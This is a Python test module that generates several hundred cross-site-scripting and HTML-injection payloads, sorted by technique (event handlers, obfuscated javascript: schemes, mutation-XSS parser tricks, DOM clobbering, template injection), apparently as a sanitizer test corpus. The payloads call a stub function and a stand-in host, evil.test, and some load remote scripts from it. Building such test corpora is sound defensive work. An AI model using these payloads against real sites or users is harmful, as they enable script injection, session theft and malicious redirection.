"""Texts that attack who shows them: more than 300, by technique.

They were written for these tests, after the techniques that three public catalogues collect: the
XSS Filter Evasion Cheat Sheet of OWASP, the HTML5 Security Cheatsheet (html5sec.org), and the tests
of DOMPurify. None of their texts is here.

What runs calls `ran()`. What loads or navigates goes to `evil.test`.
"""

import random
from itertools import product

RUN = "ran()"
EVIL = "https://evil.test"

# Handlers


def _handlers() -> list[str]:
    """An event handler on what stays, and on what does not; most need nobody to do anything."""
    by_themselves = {
        "img src=x": "onerror",
        "img src=/ok.png": "onload",
        "image src=x": "onerror",
        "svg": "onload",
        "body": "onload onpageshow onhashchange onresize onscroll",
        "iframe srcdoc=x": "onload",
        "input autofocus": "onfocus",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "button autofocus": "onfocus",
        "a id=x tabindex=1 autofocus": "onfocus",
        "details open": "ontoggle",
        "video src=x": "onerror",
        "audio src=x": "onerror onloadstart",
        "marquee": "onstart",
        "object data=x": "onerror",
        "embed src=/ok.png": "onload",
        "script src=x": "onerror",
        "link rel=stylesheet href=x": "onerror onload",
        "style": "onload",
        "dialog open": "onclose onbeforetoggle",
        "p style=animation:x": "onanimationstart",
        "span style=transition:outline": "ontransitionend",
        "div contenteditable autofocus": "onfocus onbeforeinput",
    }
    of_others = [
        "onclick",
        "onmouseover",
        "onpointerenter",
        "onauxclick",
        "ondblclick",
        "onkeydown",
        "oncopy",
        "oncontextmenu",
        "ondragstart",
        "onwheel",
        "ontouchstart",
        "onfocusin",
        "onbeforecopy",
        "oncontentvisibilityautostatechange",
        "onscrollsnapchange",
        "onformdata",
    ]
    found = [
        f"<{tag} {event}={RUN}>"
        for tag, events in by_themselves.items()
        for event in events.split()
    ]
    found += [f'<b {event}="{RUN}">x</b>' for event in of_others]
    return found + [f"<a href={EVIL} {event}='{RUN}'>x</a>" for event in of_others[:8]]


def _separated() -> list[str]:
    """What stands between a tag, its attributes and their values."""
    between = ["/", "//", "\t", "\n", "\f", "\r", " / ", "\n\n/\t", "/x=y/", " x='>' "]
    found = [f"<img{space}src=x{space}onerror={RUN}>" for space in between]
    found += [
        f"<b{space}onclick{equals}{RUN}>x" for space, equals in product("/\t", ["= ", " =\n"])
    ]
    return [
        *found,
        f"<b/onclick='{RUN}'/id=x>x</b>",
        f'<b id="x"onclick="{RUN}">x</b>',
        f"<b id=x'onclick={RUN}>x</b>",
        f"<b id='x\"' onclick='{RUN}'>x</b>",
        f'<b "onclick={RUN} x=">x</b>',
        f"<b '' onclick={RUN}>x</b>",
        f"<b =onclick={RUN}>x</b>",
        f"<b = onclick={RUN}>x</b>",
        f"<b <onclick={RUN}>x</b>",
        f"<b ONCLICK={RUN}>x</b>",
        f"<b oNcLiCk={RUN}>x</b>",
        f"<b on&#99;lick={RUN}>x</b>",
        f"<b \x00onclick={RUN}>x</b>",
        f"<b on\x00click={RUN}>x</b>",
        f"<b id=1 id=2 onclick={RUN} onclick=x>x</b>",
    ]


# Links


def _schemes() -> list[str]:
    """A scheme that runs, hidden from who looks for it and not from a browser."""
    script = f"javascript:{RUN}"
    hidden = [
        script,
        script.upper().replace("RAN", "ran"),
        f"jAvAsCrIpT:{RUN}",
        f" {script}",
        f"\t\n{script}",
        f"\x01{script}",
        f"\x00{script}",
        f"\x1f\x20{script}",
        f"\xa0{script}",
        f"\u2028{script}",
        f"\ufeff{script}",
        f"&#1;{script}",
        f"&#x1F;{script}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"java\r\nscript:{RUN}",
        f"java\x00script:{RUN}",
        f"java\u00adscript:{RUN}",
        f"java\u200bscript:{RUN}",
        f"j\na\nv\na\ns\nc\nr\ni\np\nt\n:{RUN}",
        f"java&#9;script:{RUN}",
        f"java&#x0A;script:{RUN}",
        f"java&#13;script:{RUN}",
        f"java&Tab;script:{RUN}",
        f"java&NewLine;script:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript&colon{RUN}",
        f"javascript&#58;{RUN}",
        f"javascript&#x3a;{RUN}",
        f"javascript&#x3A{RUN}",
        f"&#106;avascript:{RUN}",
        f"&#x6a;avascript:{RUN}",
        f"&#X6A;avascript:{RUN}",
        f"&#0000106avascript:{RUN}",
        f"&#{'0' * 40}106;avascript:{RUN}",
        f"&#x{'0' * 40}6a;avascript:{RUN}",
        "".join(f"&#{ord(letter)};" for letter in script),
        "".join(f"&#x{ord(letter):x};" for letter in script),
        "".join(f"&#{ord(letter):07}" for letter in script),
        f"&amp;#106;avascript:{RUN}",
        f"javascript&amp;colon;{RUN}",
        f"javascript:0800;{RUN}",
        f"javascript:`0800 ${{{RUN}}}`",
        f"javascript:`80`/{RUN}",
        f"javascript:1/{RUN}",
        f"javascript:443?{RUN}:{RUN}",
        f"javascript://x.test/%0a{RUN}",
        f"javascript://x.test:80/%0d{RUN}",
        f"javascript:/*https://x.test*/{RUN}",
        f"javascript:%72an()//{RUN}",
        f"javascript:'https://x.test';{RUN}",
        f"javascript:{RUN}//mailto:a@x.test",
        f"javascript:void({RUN})#https://x.test",
        f"vbscript:{RUN}",
        f"livescript:{RUN}",
        f"mocha:{RUN}",
        f"jar:javascript:{RUN}",
        f"view-source:javascript:{RUN}",
        f"feed:javascript:{RUN}",
        f"url:javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;charset=utf-7,+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
        "dat\na:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
        f"data:,{RUN}",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
        "blob:https://chat.test/x",
        "filesystem:https://chat.test/temporary/x",
        "file:///etc/passwd",
        "about:blank",
        "chrome://settings",
        "tel:112",
        "sms:112?body=x",
        "intent://x#Intent;scheme=http;end",
        "ms-settings:x",
        "ftp://evil.test",
        "ws://evil.test",
    ]
    return [f'<a href="{link}">x</a>' for link in hidden]


def _addresses() -> list[str]:
    """Links without a scheme of their own, and such as do not lead where they seem to."""
    links = [
        "",
        "/logout",
        "?next=evil",
        "#top",
        "logout",
        "./logout",
        "//evil.test",
        "\\\\evil.test",
        "/\\evil.test",
        "\t//evil.test",
        "/\t/evil.test",
        "/&Tab;/evil.test",
        "///evil.test",
        "https:evil",
        "https:/evil",
        "http:logout",
        "http:\\evil.test",
        "https&#58;evil",
        "htt\nps:logout",
        "http\x01s:logout",
        "://evil.test",
        ":javascript",
        "https//evil.test",
        "chat.test:80/logout",
        'https&#58;//x"',
        '&#104;ttps://x"&amp;',
        "https://",
        "http://[",
        "https://x.test:99999/",
        "https:/\\evil.test%0a/",
        "https://chat.test@evil.test/",
        "https://chat.test%2f@evil.test",
        "mailto:",
        "mailto://x y@z",
        "\u2002https://evil.test",
        "\u3000//evil.test",
        "\ufeff/logout",
    ]
    found = [f"<a href='{link}'>x</a>" for link in links]
    return [
        *found,
        "<a href>x</a>",
        "<a href=>x</a>",
        f"<a href=javascript:{RUN}>x</a>",
        f"<a href=`javascript:{RUN}`>x</a>",
        f"<a href='x' href='javascript:{RUN}'>x</a>",
        f"<a href='javascript:{RUN}' href='{EVIL}'>x</a>",
        f"<a xlink:href='javascript:{RUN}'>x</a>",
        f"<a HREF='javascript:{RUN}'>x</a>",
        f"<a ping='{EVIL}' href='{EVIL}'>x</a>",
        f"<a download href='{EVIL}'>x</a>",
        f"<a href='{EVIL}' target=_top>x</a>",
        f"<a href='{EVIL}' target='_self'>x</a>",
        f"<a href='{EVIL}' target='&#95;parent'>x</a>",
        f"<a href='{EVIL}' target='chat' rel=opener>x</a>",
        f"<a href='{EVIL}' target=_blank rel='opener'>x</a>",
        f"<a href='{EVIL}' rel='preload stylesheet'>x</a>",
        f"<a href='{EVIL}' referrerpolicy=unsafe-url attributionsrc='{EVIL}'>x</a>",
        f"<a href='{EVIL}' style='position:fixed;inset:0'>x</a>",
        f"<area href='javascript:{RUN}' shape=default>",
        f"<map name=m><area href='{EVIL}'></map><img usemap=#m src=x>",
        f"<base href='javascript:{RUN}//'><a href=x>x</a>",
        f"<base href='{EVIL}/'><a href=/x>x</a>",
    ]


# What loads and navigates


def _loads() -> list[str]:
    """What asks another server for something, or leads there, by being shown."""
    tags = [
        "<img src='{}/i'>",
        "<img srcset='{}/i 2x'>",
        "<img src=x lowsrc='{}/i' dynsrc='{}/j'>",
        "<picture><source srcset='{}/i'><img></picture>",
        "<video poster='{}/i'></video>",
        "<video src='{}/v' autoplay></video>",
        "<video><source src='{}/v'><track src='{}/t' default></video>",
        "<audio src='{}/a' preload=auto></audio>",
        "<iframe src='{}'></iframe>",
        "<frameset><frame src='{}'></frameset>",
        "<embed src='{}/e'>",
        "<object data='{}/o'></object>",
        "<object><param name=movie value='{}/o'></object>",
        "<applet code=x codebase='{}'></applet>",
        "<link rel=stylesheet href='{}/s.css'>",
        "<link rel=prefetch href='{}/p'>",
        "<link rel=preconnect href='{}'>",
        "<link rel=dns-prefetch href='{}'>",
        "<link rel=icon href='{}/i'>",
        "<link rel=import href='{}/i'>",
        "<link rel=manifest href='{}/m'>",
        "<meta http-equiv=refresh content='0;url={}'>",
        "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
        "<meta http-equiv=set-cookie content='a=b'>",
        "<body background='{}/b'>",
        "<table background='{}/b'><td background='{}/c'>x</table>",
        "<input type=image src='{}/i'>",
        "<form action='{}'><input autofocus type=submit></form>",
        "<form id=f action='{}'></form><button form=f>x</button>",
        "<button formaction='javascript:ran()'>x</button>",
        "<isindex action='javascript:ran()' type=submit>",
        "<script src='{}/s.js'></script>",
        "<script src='//evil.test/s.js'></script>",
        "<script type=module>import '{}/s.js'</script>",
        '<script type=speculationrules>{{"prefetch":[{{"urls":["{}"]}}]}}</script>',
        "<style>@import '{}/s.css';</style>",
        "<style>body{{background:url({}/b)}}</style>",
        "<style>@font-face{{font-family:x;src:url({}/f)}}*{{font-family:x}}</style>",
        "<b style='background:url({}/b)'>x</b>",
        "<b style='background:u\\72l({}/b)'>x</b>",
        "<b style='list-style:url({}/l)'>x</b>",
        "<b style='content:image-set(\"{}/c\" 1x)'>x</b>",
        "<b style='width:expression(ran())'>x</b>",
        "<b style='behavior:url({}/h.htc)'>x</b>",
        "<b style='-moz-binding:url({}/x#y)'>x</b>",
        "<bgsound src='{}/b'>",
        "<layer src='{}/l'></layer>",
        "<svg><image href='{}/i'/></svg>",
        "<svg><use href='{}/u#x'/></svg>",
        "<svg><feImage href='{}/f'/></svg>",
        "<svg><script href='{}/s.js'/></svg>",
        "<math><maction actiontype=statusline href='{}'>x</maction></math>",
        "<xml src='{}/x' id=i></xml>",
        "<portal src='{}'></portal>",
        "<fencedframe src='{}'></fencedframe>",
    ]
    return [tag.format(EVIL, EVIL) for tag in tags]


# Scripts


def _scripts() -> list[str]:
    """Elements that run, whole, broken and within each other."""
    return [
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script/x>",
        f"<script x='>'>{RUN}</script>",
        f"<script>{RUN}",
        f"<script>{RUN}//</script",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"<script\x00>{RUN}</script>",
        f"<<script>{RUN}//<</script>",
        f"<\u017fcript>{RUN}</\u017fcript>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
        f"&#60;img src=x onerror={RUN}&#62;",
        f"&LT;img src=x onerror={RUN}&GT;",
        f"&ltimg src=x onerror={RUN}&gt",
        f"%3Cimg src=x onerror={RUN}%3E",
        f"\\x3cimg src=x onerror={RUN}\\x3e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"<script>/*</script><img src=x onerror='*/{RUN}'>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"<iframe srcdoc='<img src=x onerror=parent.{RUN}>'></iframe>",
        f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<object data='javascript:{RUN}'></object>",
        f"<embed src='javascript:{RUN}'>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<isindex type=image src=x onerror={RUN}>",
        f"<template><img src=x onerror={RUN}></template>",
        f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
        f"<x-y is=z onclick={RUN}>x</x-y>",
        f"<b is='x-y' onclick={RUN}>x</b>",
        f"<?xml-stylesheet href='javascript:{RUN}'?>",
        f"<?php <img src=x onerror={RUN}>?>",
        f"<%<img src=x onerror={RUN}>%>",
        f"</><img src=x onerror={RUN}>",
        f"</ x><img src=x onerror={RUN}>",
        f"<!x><img src=x onerror={RUN}>",
        f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
        f"<import implementation='javascript:{RUN}'>",
        "{{constructor.constructor('ran()')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('ran()')}}",
        "<b ng-app ng-csp ng-click=$event.view.ran()>x</b>",
        "<b v-html=\"''.constructor.constructor('ran()')()\">x</b>",
        "<b data-bind='html: ran()' x-init='ran()' hx-on:load='ran()'>x</b>",
        "${ran()}<%= ran() %>#{ran()}",
    ]


# What a second reading makes of it


def _mutations() -> list[str]:
    """Texts that are harmless as they are read first, and not when what was written is read."""
    inner = f"<img src=x onerror={RUN}>"
    found = [
        f"<{outer}><{raw}><a title='</{raw}>{inner}'>"
        for outer in ("svg", "math", "p", "table")
        for raw in ("style", "title", "textarea", "xmp", "noscript", "iframe", "noembed")
    ]
    return [
        *found,
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{inner}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<math><annotation-xml encoding='text/html'><style>{inner}</style></annotation-xml>",
        f"<svg><foreignobject><p><style><!--</style>{inner}--></p></foreignobject></svg>",
        f"<svg></p><style><g title='</style>{inner}'>",
        f"<svg><desc><b><p></desc><style><a id='</style>{inner}'>",
        f"<svg><![CDATA[><{inner}]]></svg>",
        f"<![CDATA[{inner}]]>",
        f"<b id='<![CDATA['>]]>{inner}",
        f"<!--><p title='-->{inner}'>",
        f"<!---><p title='-->{inner}'>",
        f"<!-- --!>{inner}<!-- -->",
        f"<!--<!-- -->{inner}-->",
        f"<!--[if gte IE 4]>{inner}<![endif]-->",
        f"<comment>{inner}</comment>",
        f"<plaintext>{inner}",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<xmp><p title='</xmp>{inner}'></xmp>",
        f"<select><style></select>{inner}</style>",
        f"<select><option><iframe></select><b>{inner}",
        f"<table><caption><svg><style></table>{inner}",
        f"<table><tr><td><b><table></b>{inner}</table>",
        f"<a><table><a href='javascript:{RUN}'>x</table>",
        f"<p id='`&#x60;{inner}`'>x</p>",
        f'<b class="``onmouseover={RUN}">x</b>',
        f"<b title='&quot;&gt;{inner}'>x</b>",
        f"<a title='&quot; onclick={RUN} x=&quot;'>x</a>",
        f"<a title='\"><img src=x onerror={RUN}>'>x</a>",
        f"<a title=\"'>{inner}\" id='\"'>x</a>",
        f"<b id='&lt;/b&gt;{inner}'>x</b>",
        f"<b class='x&#34; onclick=&#34;{RUN}'>x</b>",
        f"<b id=x&Tab;onclick={RUN}>x</b>",
        f"<b id='\n' class='\"\n>{inner}'>x</b>",
        "<b>" * 30 + inner,
        "<i><p>" * 12 + inner,
        f"<p><b><i><a href='javascript:{RUN}'></p><p>x</b>y</a>",
        f"<ul><li><a href={EVIL}><li>{inner}</a></ul>",
        f"<a href={EVIL}><a href='javascript:{RUN}'>x</a></a>",
        f"text <b {inner}",
        f"<b title='{inner}",
        f"<a href='{EVIL}' title='{inner}",
        f"<b{inner}>x</b>",
        f"</p onclick={RUN}>{inner}",
        f"<br id=x onload={RUN}/>{inner}",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
        f"<html onload={RUN}><body onload={RUN}>{inner}",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</a></svg>",
        f"<svg><set attributeName=onmouseover to='{RUN}' begin=0s></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><handler type=x>{RUN}</handler></svg>",
        f"<math href='javascript:{RUN}'><mi>x</mi></math>",
        f"<math><a xlink:href='javascript:{RUN}'>x</a></math>",
    ]


# Names


def _names() -> list[str]:
    """Names that stand in the way of those of a page's script."""
    clobbered = ["ran", "location", "document", "cookie", "getElementById", "__proto__", "toString"]
    found = [f"<a id={name} href='{EVIL}/{name}'>x</a>" for name in clobbered]
    return [
        *found,
        "<b id=x></b><b id=x class=y></b>",
        "<form id=document><input name=cookie></form>",
        "<form name=body><img name=createElement></form>",
        "<iframe name=self srcdoc='<a id=x>'></iframe>",
        "<img name=getElementsByTagName src=x>",
        "<b class='modal-backdrop show fixed inset-0'>x</b>",
        "<b id='chat-input' class='js-delete-account'>x</b>",
        "<b slot=x part=y itemid=z>x</b>",
        f"<b popover id=p>x</b><button popovertarget=p>{RUN}</button>",
        "<a accesskey=x autofocus tabindex=0>x</a>",
        "<output name=ran></output><object name=ran></object>",
    ]


def spliced(count: int, seed: int) -> list[str]:
    """Return texts that each begin as one vector and go on within another."""
    choose = random.Random(seed)
    every = [vector for vectors in VECTORS.values() for vector in vectors]
    found = []
    for _ in range(count):
        first, second = choose.choices(every, k=2)
        end, begin = choose.randint(0, len(first)), choose.randint(0, len(second))
        found.append(first[:end] + second[begin:])
    return found


VECTORS: dict[str, list[str]] = {
    "handlers": _handlers(),
    "what separates": _separated(),
    "schemes": _schemes(),
    "addresses": _addresses(),
    "what loads": _loads(),
    "scripts": _scripts(),
    "mutations": _mutations(),
    "names": _names(),
}
"""By technique."""
